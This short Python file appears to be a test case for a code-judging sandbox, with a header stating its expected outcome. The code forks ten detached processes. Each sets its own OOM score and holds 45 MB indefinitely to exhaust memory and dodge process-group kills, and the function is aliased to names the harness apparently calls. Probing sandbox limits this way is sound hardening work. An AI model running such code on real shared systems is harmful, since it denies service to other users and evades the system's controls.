# Fills memory with many processes that are each smaller than the judge and no easier to kill
# ends: memory resource timeout
import ctypes
import os
import time

DUMPABLE, SIZE = 4, 45 * 2**20


def total(*_):
    ctypes.CDLL(None).prctl(DUMPABLE, 1, 0, 0, 0)
    for _ in range(10):
        if os.fork() == 0:
            os.setsid()
            with open("/proc/self/oom_score_adj", "w") as score:
                score.write("0")
            hoard = b"x" * SIZE
            while hoard:
                time.sleep(3600)
    time.sleep(3600)


Ledger = read_note = total
